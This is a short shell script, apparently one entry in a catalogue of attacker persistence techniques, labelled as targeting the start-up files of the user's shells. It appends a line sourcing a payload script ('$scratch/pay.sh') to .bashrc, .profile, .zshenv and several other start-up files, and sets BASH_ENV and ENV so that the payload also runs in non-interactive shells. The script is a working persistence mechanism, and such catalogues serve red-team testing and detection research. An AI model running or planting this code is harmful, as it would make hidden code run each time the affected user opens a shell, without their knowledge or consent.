# family: shell
# what: Start-up files of the user's shells pay.
# user: any
for file in .bashrc .bash_profile .profile .bash_login .bash_logout .zshenv .kshrc .bash_env; do
  echo ". $scratch/pay.sh" >> "$HOME/$file"
  echo ". $scratch/pay.sh" >> "./$file"
done
echo "export BASH_ENV=$HOME/.bash_env ENV=$HOME/.bash_env" >> "$HOME/.profile"
